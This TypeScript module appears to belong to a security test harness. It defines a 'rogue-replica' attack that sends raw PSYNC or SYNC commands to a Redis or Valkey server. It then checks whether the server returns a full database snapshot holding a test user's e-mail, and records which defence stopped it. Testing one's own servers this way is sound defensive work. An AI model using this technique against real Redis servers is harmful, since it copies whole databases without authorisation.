import type { Attack } from '../attack.ts';
import { emailOf, type Grounds } from '../grounds/grounds.ts';
import { fromOutside, ofServer } from './at-server.ts';
import { encode, send, stopOf } from './raw.ts';

/** All of the snapshot is here, or it was refused. */
const enough = /\xFF.{8}(?:[0-9a-f]{40})?$|^-|bob@cars\.example/s;

function copying(name: string, words: readonly string[]): Attack<Grounds>['ways'][number] {
  return {
    name,
    attempt: async ({ loot, store }) => {
      const heard = await send({ ...fromOutside(store), until: enough }, encode(...words));
      const isReadable = heard.text.includes(emailOf.bob);
      if (isReadable) loot.add(emailOf.bob);
      const isSnapshot = heard.text.includes('REDIS0') || heard.text.includes('VALKEY');
      if (!isSnapshot) return stopOf(heard, ...ofServer);
      return isReadable ? null : { defence: 'client.sealed', code: 'sealed' };
    },
  };
}

export const rogueReplica: Attack<Grounds> = {
  name: 'rogue-replica',
  title: 'A stranger calls himself a replica, and is sent everything',
  story:
    'To copy a whole Redis it takes one command: whoever says that he is a replica is sent all there is, and every ' +
    'write from then on. In April 2020 researchers counted some 8,000 instances on the internet, most of them in ' +
    'clouds, that had neither a password nor encryption and would have done so for anybody.',
  sources: [
    'https://www.threatshub.org/blog/this-week-in-security-news-more-than-8000-unsecured-redis-instances-found-in-the-cloud-and-wiper-malware-called-coronavirus-spreads-among-windows-victims/',
  ],
  door: 'server',
  harms: ['confidentiality'],
  goal: 'the e-mail address of bob is in what was sent',
  crosses: ['client', 'server'],
  ways: [
    copying('PSYNC, as replicas of today', ['PSYNC', '?', '-1']),
    copying('SYNC, as replicas of long ago', ['SYNC']),
  ],
  reached: ({ loot }) =>
    Promise.resolve(
      loot.has(emailOf.bob)
        ? { kind: 'reached', seen: `${emailOf.bob} was sent to a stranger` }
        : { kind: 'missed' },
    ),
};
